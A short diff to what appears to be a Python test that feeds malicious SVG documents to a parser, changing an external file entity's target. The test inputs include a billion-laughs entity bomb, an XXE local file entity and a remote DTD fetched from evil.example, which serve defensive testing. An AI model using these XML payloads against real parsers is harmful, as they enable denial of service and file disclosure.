@@ -448,7 +448,7 @@ BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
         "",
         "not a drawing",
         f'<!DOCTYPE svg [<!ENTITY l0 "lol">{BOMB}]>' + DRAWING.replace("Words", "&l9;"),
-        '<!DOCTYPE svg [<!ENTITY file SYSTEM "file:///etc/hostname">]>' + DRAWING.replace("Words", "&file;"),
+        f'<!DOCTYPE svg [<!ENTITY file SYSTEM "{Path(__file__).as_uri()}">]>' + DRAWING.replace("Words", "&file;"),
         '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>' + DRAWING,
     ],
     ids=["cut off", "empty", "no XML", "entity bomb", "file entity", "remote entity"],
